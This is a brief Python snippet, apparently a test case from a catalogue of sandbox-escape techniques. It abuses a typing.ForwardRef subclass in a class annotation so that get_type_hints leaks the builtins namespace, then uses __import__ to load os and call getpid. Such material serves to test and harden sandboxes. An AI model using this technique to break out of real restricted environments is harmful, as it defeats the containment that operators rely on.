# technique: a ForwardRef subclass (_root=True) in a class annotation: get_type_hints passed it the real globals of the class's module
# expect: any
import typing
leak = []
class F(typing.ForwardRef, _root=True):
    def __init__(self):
        pass
    def _evaluate(self, g, l, guard):
        leak.append(g); leak.append(l)
        return int
class C:
    x: F()
C.__module__ = "builtins"
typing.get_type_hints(C)
b = leak[1]
(type(b).__name__, sorted(k for k in b if k.startswith("_"))[:10], "open" in b, b["__import__"]("os").getpid())
